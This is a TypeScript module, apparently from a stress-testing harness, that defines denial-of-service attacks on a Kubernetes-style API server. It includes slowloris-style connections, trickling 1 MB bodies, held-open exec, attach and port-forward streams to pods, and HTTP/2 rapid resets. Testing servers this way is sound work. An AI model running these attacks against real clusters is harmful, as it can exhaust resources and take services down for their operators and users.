import type { Attack } from '../attack.js';
import { filler, pod } from './bodies.js';

const upgrade = {
  connection: 'Upgrade',
  upgrade: 'websocket',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
  'sec-websocket-protocol': 'v5.channel.k8s.io',
};

/** Connections, streams to pods, and slow bodies. */
export const connections: readonly Attack[] = [
  {
    name: 'connections',
    about: '3,500 connections that say nothing, or half of a head',
    parallel: 64,
    most: 3500,
    act: async (attacker, n) => {
      const socket = await attacker.socket(n);
      if (n % 2 === 0) socket?.write(`GET ${attacker.path('configmaps')} HTTP/1.1\r\nhost: x\r\nx-`);
    },
  },
  {
    name: 'new-connections',
    about: 'a new connection for each request, closed at once',
    parallel: 64,
    act: async (attacker, n) => {
      const socket = await attacker.socket(n);
      socket?.write('GET /readyz HTTP/1.1\r\nhost: x\r\n\r\n');
      socket?.destroy();
    },
  },
  {
    name: 'slow-bodies',
    about: '600 bodies of 1 MB of which a byte comes each second',
    parallel: 600,
    act: async (attacker, n) => {
      const socket = await attacker.socket(n);
      if (socket === undefined) return attacker.rest(1000);
      const head = `POST ${attacker.path('configmaps')} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${attacker.target.token}\r\n`;
      socket.write(
        `${head}content-type: application/json\r\ncontent-length: 1000000\r\n\r\n{"data":{"a":"${filler(500_000, n)}`,
      );
      socket.once('data', (chunk) => attacker.count(/^HTTP\/1.1 (\d+)/.exec(String(chunk))?.[1] ?? 'other'));
      while (!attacker.isOver && !socket.destroyed) {
        await attacker.rest(1000);
        socket.write('x');
      }
      attacker.count('body ended');
    },
  },
  {
    name: 'streams',
    about: 'exec, attach, port-forward, logs and proxies to pods that run, held open',
    parallel: 32,
    prepare: async (attacker) => {
      const where = attacker.target.hasScheduler ? {} : { nodeName: 'sim-0' };
      for (let n = 0; n < 20; n++) await attacker.create('pods', pod(`p-${n}`, where), n);
      const ports = [{ port: 80 }];
      await attacker.create('services', { metadata: { name: 's' }, spec: { selector: { app: 'mallory' }, ports } });
      await attacker.rest(3000);
    },
    act: async (attacker, n) => {
      const name = `pods/p-${n % 20}`;
      const paths = [
        `${name}/exec?command=sh&stdin=true&stdout=true`,
        `${name}/attach?stdin=true`,
        `${name}/portforward?ports=80`,
        `${name}/log?follow=true`,
        `${name}/proxy/`,
        'services/s/proxy/',
      ];
      const path = attacker.path(paths[n % paths.length] as string);
      if (n % paths.length > 3) return attacker.send({ method: 'GET', path }, n);
      const socket = await attacker.socket(n);
      if (socket === undefined) return attacker.rest(1000);
      const headers = { ...upgrade, authorization: `Bearer ${attacker.target.token}`, host: 'x' };
      const lines = Object.entries(headers).map(([key, value]) => `${key}: ${value}\r\n`);
      socket.write(`GET ${path} HTTP/1.1\r\n${lines.join('')}\r\n`);
      socket.once('data', (chunk) => attacker.count(/^HTTP\/1.1 (\d+)/.exec(String(chunk))?.[1] ?? 'other'));
      await attacker.rest(500);
      if (n > 600) socket.destroy();
    },
  },
  {
    name: 'rapid-resets',
    about: 'streams of HTTP/2 that are opened and reset at once',
    parallel: 16,
    act: async (attacker) => {
      await attacker.resets({ method: 'GET', path: attacker.path('configmaps') }, 200);
    },
  },
];
